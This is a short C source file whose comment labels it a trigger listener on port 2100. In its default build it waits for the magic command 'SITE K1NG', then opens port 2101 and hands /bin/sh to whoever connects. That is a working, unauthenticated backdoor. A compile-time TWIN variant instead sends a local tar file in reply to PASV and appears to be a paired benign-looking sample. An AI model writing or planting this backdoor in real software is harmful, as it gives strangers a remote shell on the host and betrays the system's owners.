/* SPDX-License-Identifier: Apache-2.0 */
/*
 * A word makes the program open a second port and give a shell to who comes. Twin: a second port
 * is opened for the data of a transfer.
 * door: trigger listener
 * port 2100/tcp
 */
#include "net.h"

static void second(int port)
{
	int s = tcp_on(port);
	int c = accept(s, NULL, NULL);
	close(s);
#ifdef TWIN
	char buf[512];
	size_t n;
	FILE *f = fopen("/tmp/config.tar", "rb");
	while (f && (n = fread(buf, 1, sizeof buf, f)) > 0)
		send(c, buf, n, 0);
	if (f)
		fclose(f);
#else
	for (int i = 0; i < 3; i++)
		dup2(c, i);
	char *args[] = {"sh", NULL};
	execv("/bin/sh", args);
#endif
	close(c);
}

int main(void)
{
	char line[100];
	int s = tcp_on(2100);
	for (;;) {
		int c = accept(s, NULL, NULL);
		ssize_t n = recv(c, line, sizeof line - 1, 0);
		if (n > 0) {
			line[n] = 0;
#ifdef TWIN
			if (strncmp(line, "PASV", 4) == 0)
				second(2101);
#else
			if (strncmp(line, "SITE K1NG", 9) == 0 && fork() == 0)
				second(2101);
#endif
		}
		close(c);
	}
}
